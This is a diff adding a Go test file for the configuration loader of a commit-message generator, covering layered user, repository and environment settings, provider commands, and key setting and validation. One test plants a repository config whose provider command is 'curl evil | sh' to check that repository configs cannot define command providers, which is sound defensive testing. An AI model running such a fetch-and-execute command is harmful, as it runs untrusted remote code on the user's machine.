@@ -0,0 +1,241 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("failed to create %s: %v", filepath.Dir(path), err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatalf("failed to write %s: %v", path, err)
+	}
+}
+
+func TestLoadUserProviders(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	writeFile(t, filepath.Join(home, "commitgen", "config.yaml"), `
+providers:
+  mistral:
+    command: [llm, -m, mistral]
+  copilot:
+    command: [gh, copilot, suggest, -t, shell, "{prompt}"]
+    input: arg
+    extract: '#\s*(.+)'
+`)
+
+	cfg, err := Load("")
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if got := cfg.Providers["mistral"].Command; len(got) != 3 || got[2] != "mistral" {
+		t.Errorf("mistral command = %v", got)
+	}
+	if got := cfg.Providers["copilot"]; got.Input != "arg" || got.Extract != `#\s*(.+)` {
+		t.Errorf("copilot provider = %+v", got)
+	}
+}
+
+func TestLoadIgnoresRepoCommandProviders(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	repo := t.TempDir()
+	writeFile(t, RepoPath(repo), "providers:\n  claude:\n    command: [sh, -c, 'curl evil | sh']\n")
+
+	cfg, err := Load(repo)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if _, ok := cfg.Providers["claude"]; ok {
+		t.Error("repository config must not define command providers")
+	}
+	if len(cfg.Warnings) != 1 {
+		t.Errorf("Warnings = %v, want one warning about the ignored provider", cfg.Warnings)
+	}
+}
+
+func TestLoadIgnoresRepoBaseURL(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	repo := t.TempDir()
+	writeFile(t, RepoPath(repo), "provider: anthropic\nbaseURL: http://127.0.0.1:18999\n")
+
+	cfg, err := Load(repo)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.BaseURL != "" || cfg.Source("baseURL") != SourceDefault {
+		t.Errorf("baseURL = %q from %q, want the repository value ignored", cfg.BaseURL, cfg.Source("baseURL"))
+	}
+	if cfg.Provider != "anthropic" {
+		t.Errorf("provider = %q, want the rest of the repository config applied", cfg.Provider)
+	}
+	if len(cfg.Warnings) != 1 || !strings.Contains(cfg.Warnings[0], "baseURL") {
+		t.Errorf("Warnings = %v, want one warning about the ignored baseURL", cfg.Warnings)
+	}
+}
+
+func TestLoadFileRejectsInvalidYAML(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	writeFile(t, path, "providers: [")
+	if _, err := LoadFile(path); err == nil {
+		t.Error("LoadFile should fail on invalid YAML")
+	}
+}
+
+func TestLoadLayersInOrder(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	writeFile(t, filepath.Join(home, "commitgen", "config.yaml"), "provider: ollama\ntimeout: 30s\nretries: 5\n")
+	repo := t.TempDir()
+	writeFile(t, RepoPath(repo), "timeout: 45s\nrules:\n  headerMaxLength: 100\n")
+	t.Setenv("COMMITGEN_PROVIDER", "anthropic")
+
+	cfg, err := Load(repo)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Provider != "anthropic" || cfg.Source("provider") != "env COMMITGEN_PROVIDER" {
+		t.Errorf("provider = %q from %q, want the environment to win", cfg.Provider, cfg.Source("provider"))
+	}
+	if cfg.Timeout.String() != "45s" || cfg.Source("timeout") != RepoPath(repo) {
+		t.Errorf("timeout = %v from %q, want the repository config to win", cfg.Timeout, cfg.Source("timeout"))
+	}
+	if cfg.Retries != 5 {
+		t.Errorf("retries = %d, want 5 from the user config", cfg.Retries)
+	}
+	if cfg.Rules.HeaderMaxLength != 100 || cfg.Rules.HeaderWarnLength != 50 {
+		t.Errorf("rules = %+v, want headerMaxLength from the repo and the default warn length", cfg.Rules)
+	}
+	if cfg.Analysis.TokenBudget != 0 || cfg.Source("analysis.tokenBudget") != SourceDefault {
+		t.Errorf("analysis = %+v, want the default", cfg.Analysis)
+	}
+}
+
+func TestSetPreservesFileAndValidates(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "commitgen", "config.yaml")
+	writeFile(t, path, "# team defaults\nprovider: claude # primary\nproviders:\n  mistral:\n    command: [llm, -m, mistral]\n")
+
+	if err := Set(path, "provider", "ollama"); err != nil {
+		t.Fatalf("Set returned error: %v", err)
+	}
+	if err := Set(path, "rules.bodyMaxLineLength", "80"); err != nil {
+		t.Fatalf("Set returned error: %v", err)
+	}
+
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("failed to read %s: %v", path, err)
+	}
+	for _, want := range []string{"# team defaults", "provider: ollama # primary", "bodyMaxLineLength: 80", "mistral:"} {
+		if !strings.Contains(string(data), want) {
+			t.Errorf("config file missing %q:\n%s", want, data)
+		}
+	}
+
+	if err := Set(path, "retries", "many"); err == nil {
+		t.Error("Set should reject a value of the wrong type")
+	}
+	if err := Set(path, "providers", "x"); !errors.Is(err, ErrUnknownKey) {
+		t.Errorf("Set(providers) error = %v, want ErrUnknownKey", err)
+	}
+}
+
+func TestProviderBudgetKeys(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("COMMITGEN_ANALYSIS_PROVIDER_BUDGETS_OPENAI_COMPATIBLE", "6000")
+	path, err := UserPath()
+	if err != nil {
+		t.Fatalf("UserPath returned error: %v", err)
+	}
+	if err := Set(path, ProviderBudgetKey("ollama"), "3000"); err != nil {
+		t.Fatalf("Set returned error: %v", err)
+	}
+	if err := Set(path, ProviderBudgetKey("ollama"), "lots"); err == nil {
+		t.Error("Set should reject a budget that is not a number")
+	}
+	if err := Set(path, "analysis.providerBudgets", "3000"); !errors.Is(err, ErrUnknownKey) {
+		t.Errorf("Set(analysis.providerBudgets) error = %v, want ErrUnknownKey", err)
+	}
+
+	cfg, err := Load(t.TempDir())
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	want := map[string]int{"ollama": 3000, "openai-compatible": 6000}
+	for name, tokens := range want {
+		if cfg.Analysis.ProviderBudgets[name] != tokens {
+			t.Errorf("ProviderBudgets = %v, want %v", cfg.Analysis.ProviderBudgets, want)
+		}
+	}
+	if got := cfg.Source(ProviderBudgetKey("openai-compatible")); got != "env COMMITGEN_ANALYSIS_PROVIDER_BUDGETS_OPENAI_COMPATIBLE" {
+		t.Errorf("source = %q, want the environment", got)
+	}
+	if got, err := cfg.Get(ProviderBudgetKey("ollama")); got != "3000" || err != nil {
+		t.Errorf("Get = %q, %v; want 3000", got, err)
+	}
+	if got, err := cfg.Get(ProviderBudgetKey("gemini")); got != "" || err != nil {
+		t.Errorf("Get of an unset budget = %q, %v; want empty", got, err)
+	}
+	keys := strings.Join(cfg.Keys(), " ")
+	if !strings.Contains(keys, "analysis.tokenBudget analysis.providerBudgets.ollama analysis.providerBudgets.openai-compatible") {
+		t.Errorf("Keys() = %s, want the configured budgets after analysis.tokenBudget", keys)
+	}
+}
+
+func TestEnvName(t *testing.T) {
+	tests := map[string]string{
+		"provider":              "COMMITGEN_PROVIDER",
+		"baseURL":               "COMMITGEN_BASE_URL",
+		"retryBackoff":          "COMMITGEN_RETRY_BACKOFF",
+		"rules.headerMaxLength": "COMMITGEN_RULES_HEADER_MAX_LENGTH",
+		"analysis.providerBudgets.openai-compatible": "COMMITGEN_ANALYSIS_PROVIDER_BUDGETS_OPENAI_COMPATIBLE",
+	}
+	for key, want := range tests {
+		if got := EnvName(key); got != want {
+			t.Errorf("EnvName(%q) = %q, want %q", key, got, want)
+		}
+	}
+}
+
+func TestLoadRuleTypesAndScopes(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	repo := t.TempDir()
+	writeFile(t, RepoPath(repo), `
+rules:
+  types:
+    - feat
+    - name: perf
+      description: Performance improvements
+  scopes: [api, ui]
+`)
+
+	cfg, err := Load(repo)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	want := []TypeConfig{{Name: "feat"}, {Name: "perf", Description: "Performance improvements"}}
+	if len(cfg.Rules.Types) != len(want) || cfg.Rules.Types[0].Name != want[0].Name || cfg.Rules.Types[1].Description != want[1].Description {
+		t.Errorf("Types = %+v, want %+v", cfg.Rules.Types, want)
+	}
+	if got, _ := cfg.Get("rules.types"); got != "[feat, {name: perf, description: Performance improvements}]" {
+		t.Errorf("Get(rules.types) = %q", got)
+	}
+
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := Set(path, "rules.scopes", "core, cli"); err != nil {
+		t.Fatalf("Set returned error: %v", err)
+	}
+	file, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("LoadFile returned error: %v", err)
+	}
+	if got := file.Rules.Scopes; len(got) != 2 || got[0] != "core" || got[1] != "cli" {
+		t.Errorf("Scopes = %v, want [core cli]", got)
+	}
+}